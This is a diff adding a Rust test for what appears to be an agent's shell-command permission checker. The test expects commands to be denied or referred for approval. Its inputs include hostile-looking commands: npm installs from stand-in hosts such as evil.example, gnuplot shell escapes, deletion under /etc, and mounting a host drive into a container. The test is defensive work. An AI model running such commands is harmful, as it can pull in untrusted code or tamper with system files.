@@ -76,6 +76,41 @@ fn where_a_command_reaches_decides() {
 }
 
 #[test]
+fn what_a_program_is_given_decides() {
+    use Verdict::{Ask, Deny};
+    let deep = format!("echo {}x{}", "$(".repeat(300), ")".repeat(300));
+    for (command, verdict, id) in [
+        (deep.as_str(), Deny, "too-much"),
+        // A directory of the machine, named by its drive.
+        ("docker run -v C:/x:/y alpine", Deny, "container"),
+        ("docker run -v ./x:/y alpine", Ask, "container"),
+        // A package past the registry.
+        ("npm install left-pad", Ask, "installs"),
+        ("npm install ./local", Ask, "installs"),
+        ("npm install github:evil/x", Deny, "foreign-package"),
+        ("npm install evil/x", Deny, "foreign-package"),
+        (
+            "npm install x@https://evil.example/x.tgz",
+            Deny,
+            "foreign-package",
+        ),
+        // Code of which nobody knows the language.
+        ("gnuplot -e 'plot x'", Ask, "runs-code"),
+        ("gnuplot -e '!id'", Deny, "runs-programs"),
+        ("gnuplot -e 'remove a/x'", Ask, "runs-code"),
+        ("gnuplot -e 'remove /etc/x'", Deny, "writes-outside"),
+        ("gnuplot -e 'remove \"/etc/x\"'", Deny, "writes-outside"),
+        ("foo 'plot(\"id\")'", Ask, "not-understood"),
+        ("foo 'system(\"id\")'", Deny, "runs-programs"),
+    ] {
+        let decision = run(command);
+        assert_eq!(decision.verdict, verdict, "{command}: {decision:#?}");
+        let wanted = format!("shell-mutation/{id}");
+        assert!(ids(&decision).contains(&wanted), "{command}: {decision:#?}");
+    }
+}
+
+#[test]
 fn how_a_path_is_written_decides() {
     let read = |path: &str| ("read_file", json!({ "path": path }));
     let below = |glob: &str| {
